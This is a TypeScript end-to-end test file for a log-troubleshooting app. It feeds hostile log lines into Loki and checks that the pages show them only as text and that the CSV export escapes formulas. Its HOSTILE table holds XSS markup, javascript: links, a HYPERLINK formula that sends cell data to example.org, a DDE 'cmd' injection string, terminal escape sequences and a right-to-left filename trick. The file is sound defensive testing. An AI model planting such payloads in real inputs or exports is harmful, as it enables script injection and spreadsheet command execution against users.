import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { before, test } from 'node:test';
import { type Preview, assertNothingCutOff, describePreview, screenshot } from './preview.ts';

type Page = Awaited<ReturnType<Preview['open']>>;

const APP = '/a/sonde-troubleshoot-app';
const ESCAPE = String.fromCharCode(27);
const RIGHT_TO_LEFT = String.fromCharCode(0x202e);
/** What somebody may write into a log who wants the page to do something. */
const HOSTILE: Readonly<Record<string, string>> = {
  markup: `<img src=x onerror="document.title='taken'"><script>document.title='taken'</script>`,
  link: `<a href="javascript:document.title='taken'">pay</a> [pay](javascript:alert(1)) javascript:alert(1)`,
  formula: `=HYPERLINK("http://example.org/?"&A1,"pay")`,
  plus: `+1+cmd|' /C calc'!A0`,
  ansi: `${ESCAPE}[31mred${ESCAPE}[0m ${ESCAPE}]8;;http://example.org${ESCAPE}\\pay${ESCAPE}]8;;${ESCAPE}\\`,
  long: `begin ${'word'.repeat(4_000)} end`,
  rtl: `${RIGHT_TO_LEFT}gpj.exe is not a picture, אבג`,
};
const TIMES = 20;

describePreview('hostile lines', { scenario: 'empty' }, (preview) => {
  before(async () => {
    const nowMs = Date.now();
    const values = Object.values(HOSTILE).flatMap((text, kind) =>
      Array.from({ length: TIMES }, (_, nth) => [`${nowMs - 60_000 + nth * 1_000 + kind}000000`, text]),
    );
    await push(preview.lokiUrl, values);
  });

  for (const name of ['troubleshoot', 'patterns'] as const) {
    test(`are text and nothing but text on ${name}`, async (context) => {
      const page = await preview.open(context, `${APP}/${name}`, { width: 800 });
      await page.getByText('<img src=x').first().waitFor();
      for (const opener of await page.getByRole('button', { name: /expand|Show lines/i }).all()) {
        await opener.click();
      }
      await assertOnlyText(page);
      assert.doesNotMatch(
        await page.innerText('body'),
        /&(lt|gt|quot|amp|#39|#x2F);/,
        'no entities are shown',
      );
      await assertNothingCutOff(page);
      await screenshot(page, `hostile-${name}`);
    });
  }

  test('are told to screen readers as they are written', async (context) => {
    const page = await preview.open(context, `${APP}/troubleshoot`);
    const marks = page.getByTestId('sonde-timeline').getByRole('button');
    await marks.first().waitFor();
    const names = await marks.evaluateAll((all) => all.map((mark) => mark.getAttribute('aria-label')));
    assert.ok(
      names.some((name) => name?.includes("wrote '")),
      names.join('\n'),
    );
    assert.ok(!names.some((name) => /&(lt|quot|#39|#x2F);/.test(name ?? '')), names.join('\n'));
  });

  test('are text and nothing but text on the live page, and no formula in its export', async (context) => {
    const page = await preview.open(context, `${APP}/live`);
    await page.locator('[data-testid="sonde-live-state"][data-state="live"]').waitFor();
    const nowMs = Date.now();
    await push(
      preview.lokiUrl,
      Object.values(HOSTILE).map((text, kind) => [`${nowMs + kind}000000`, text]),
    );
    await page.getByRole('log').getByText('=HYPERLINK').first().waitFor();
    await page.getByRole('log').getByText('<img src=x').first().click();
    await assertOnlyText(page);
    await assertNothingCutOff(page);
    await screenshot(page, 'hostile-live');
    const rows = (await exportCsv(page)).split('\r\n');
    assert.ok(
      rows.some((row) => row.includes(`"'=HYPERLINK(`)),
      'a formula begins with a quote mark',
    );
    assert.ok(rows.some((row) => /,'\+1\+cmd/.test(row)));
  });
});

/** Nothing of a line ran, loads something or can be followed. */
async function assertOnlyText(page: Page): Promise<void> {
  assert.notEqual(await page.title(), 'taken');
  assert.equal(await page.locator('img[src="x"]').count(), 0);
  const links = await page
    .locator('a[href]')
    .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
  const strange = links.filter(
    (href) => !/^(\/|#|https?:\/\/(127\.0\.0\.1|localhost|grafana\.com))/.test(href ?? ''),
  );
  assert.deepEqual(strange, []);
}

async function exportCsv(page: Page): Promise<string> {
  await page.getByRole('button', { name: 'Export' }).click();
  const download = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: 'CSV' }).click();
  return readFile(await (await download).path(), 'utf8');
}

async function push(lokiUrl: string, values: readonly (readonly string[])[]): Promise<void> {
  const stream = { service_name: 'shop', level: 'error' };
  const answer = await fetch(`${lokiUrl}/loki/api/v1/push`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ streams: [{ stream, values }] }),
  });
  assert.equal(answer.status, 204, await answer.text());
}
